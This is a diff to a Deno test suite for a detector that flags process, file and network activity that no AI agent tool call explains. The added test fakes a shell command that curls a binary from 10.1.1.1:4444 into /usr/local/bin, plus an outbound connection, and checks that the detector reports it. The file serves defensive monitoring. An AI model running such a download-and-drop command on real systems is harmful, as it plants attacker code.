@@ -140,6 +140,26 @@ Deno.test("detectors: the benign twin raises nothing; the LLM endpoint is allowe
   assert.match(String(dest[1].allowed_by), /llm endpoint/);
 });
 
+Deno.test("detectors: a process no tool call explains that writes and connects out", async () => {
+  const rec = attack(false);
+  rec.process!.push(
+    r.fork(ms(6000), 240, A),
+    r.exec(ms(6001), 240, A, ["/bin/sh", "-c", "curl -o /usr/local/bin/x http://10.1.1.1:4444/x"]),
+  );
+  rec.file!.push(
+    r.open(ms(6002), 240, "/usr/local/bin/x", { flags: 577 }),
+    r.open(ms(6003), 240, "/tmp/scratch", { flags: 577 }),
+  );
+  rec.net!.push(r.connect(ms(6004), 240, "10.1.1.1", 4444));
+  const { findings } = await detect(rec);
+  assert.deepEqual(kinds(findings), ["unexplained_activity"]);
+  const [f] = findings;
+  assert.equal(f.severity, "medium");
+  assert.equal(json(f.details).branch_pid, 240);
+  assert.ok((f.evidence as string[]).some((e) => e.startsWith("net:")));
+  assert.ok(!String(f.explanation).includes("/tmp/scratch"), "scratch space is not reported");
+});
+
 Deno.test("detectors: an allowlist file takes a destination out of exfiltration", async () => {
   const dir = await Deno.makeTempDir();
   const file = join(dir, "allow.txt");
